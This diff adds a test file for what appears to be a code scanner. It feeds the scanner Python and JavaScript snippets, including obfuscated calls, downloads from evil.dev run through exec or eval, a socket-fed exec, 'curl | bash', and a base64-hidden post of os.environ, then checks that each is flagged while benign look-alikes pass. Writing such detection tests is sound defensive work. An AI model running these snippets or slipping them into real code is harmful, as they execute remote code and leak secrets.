@@ -1,0 +1,96 @@
+import { expect, test } from "vitest";
+import { found } from "../test-support/package-of";
+
+const base64 = (text: string) => Buffer.from(text).toString("base64");
+
+test.each([
+  ["a name put together", 'import os\ngetattr(os, "sy" + "stem")("ls")', ["block disguised_call:2"]],
+  ["a module put together", 'm = __import__("sub" + "process")\nm.run(["ls"])', ["block disguised_call:1"]],
+  ["a name turned around", 'import builtins\ngetattr(builtins, "lave"[::-1])("1")', ["block disguised_call:2"]],
+  ["a name in numbers", 'globals()["".join(map(chr, [101, 120, 101, 99]))]("1")', ["block disguised_call:1"]],
+  [
+    "bytes from a socket",
+    'import socket\ns = socket.socket()\ns.connect(("203.0.113.7", 1))\nexec(s.recv(4096))',
+    ["block remote_control:4"],
+  ],
+  [
+    "a download by way of a variable and a function",
+    'import requests as r\ndef get(u):\n    return r.get(u).text\ncode = get("https://evil.dev/p.py")\nns = {}\nexec(code, ns)',
+    ["block evaluated_download:6"],
+  ],
+  [
+    "a download kept in a file",
+    'import urllib.request, os\nurllib.request.urlretrieve("https://evil.dev/a.sh", "/tmp/a.sh")\nos.system("bash /tmp/a.sh")',
+    ["block evaluated_download:3"],
+  ],
+  [
+    "a decoder in steps",
+    `import base64, zlib\nraw = base64.b64decode("${base64("print(1)")}")\ntext = raw.decode()\neval(compile(text, "x", "exec"))`,
+    ["block evaluated_decoded_text:4"],
+  ],
+  [
+    "a decoded command",
+    `import base64, os\nos.system(base64.b64decode("${base64("ls -la /")}").decode())`,
+    ["block evaluated_decoded_text:2"],
+  ],
+  [
+    "a shell that fetches",
+    'import subprocess\nsubprocess.run("curl -s https://evil.dev/i | bash", shell=True)',
+    ["block remote_code:2"],
+  ],
+])("finds in Python %s", async (_, code, expected) => {
+  expect(await found("scripts/run.py", code)).toStrictEqual(expected);
+});
+
+test.each([
+  ["a name put together", 'globalThis["ev" + "al"]("1");', ["block disguised_call:1"]],
+  ["a module put together", 'const c = require("child_" + "process");\nc.execSync("ls");', ["block disguised_call:1"]],
+  [
+    "text that becomes a function",
+    'fetch("https://evil.dev/x.js").then((r) => r.text()).then((t) => new Function(t)());',
+    ["block evaluated_download:1"],
+  ],
+  [
+    "a constructor",
+    'const t = await (await fetch("https://evil.dev/x.js")).text();\n(() => {}).constructor(t)();',
+    ["block evaluated_download:2"],
+  ],
+  [
+    "pieces of a response",
+    'require("https").get("https://evil.dev/x", (res) => {\n  let body = "";\n  res.on("data", (d) => { body += d; });\n  res.on("end", () => eval(body));\n});',
+    ["block evaluated_download:4"],
+  ],
+  [
+    "a decoded text",
+    `eval(Buffer.from("${base64("console.log(1)")}", "base64").toString());`,
+    ["block evaluated_decoded_text:1"],
+  ],
+])("finds in JavaScript %s", async (_, code, expected) => {
+  expect(await found("index.mjs", code)).toStrictEqual(expected);
+});
+
+test("looks into code that was decoded", async () => {
+  const inner = 'import os, requests\nrequests.post("https://evil.dev", json=dict(os.environ))';
+  expect(await found("tests/run.py", `import base64\nexec(base64.b64decode("${base64(inner)}"))`)).toStrictEqual([
+    "block data_exfiltration:2",
+    "warn evaluated_decoded_text:2",
+  ]);
+});
+
+test.each([
+  ["a.py", 'import os\ngetattr(os, "sep")\nname = input()\ngetattr(os.path, name)("x")'],
+  ["a.py", 'import importlib\nimportlib.import_module("plugins." + "csv")'],
+  ["a.py", 'import base64\nimage = base64.b64decode("aGVsbG8gd29ybGQ=")\nopen("a.png", "wb").write(image)'],
+  ["a.py", 'import json, requests\nexec_time = json.loads(requests.get("https://api.a.dev").text)["exec"]'],
+  [
+    "a.py",
+    'import requests, subprocess\nr = requests.get("https://api.a.dev/repos").json()\nsubprocess.run(["git", "clone", r["url"]])',
+  ],
+  ["a.py", 'import pickle, base64\npickle.loads(base64.b64decode("gASVBgAAAAAAAACMAmhplC4="))'],
+  ["a.py", "import ast\nast.literal_eval(open('a').read())\neval('1 + 1')"],
+  ["a.js", 'const m = /x/.exec(await (await fetch("https://a.dev")).text());'],
+  ["a.js", 'setTimeout(() => run("a" + "b"), 10);\nconst key = "to" + "ken";\nconst v = options[key];'],
+  ["a.js", 'const { exec } = require("child_process");\nexec("git status", (err, out) => console.log(out));'],
+])("lets through what only looks like it in %s: %s", async (path, code) => {
+  expect(await found(path, code)).toStrictEqual([]);
+});
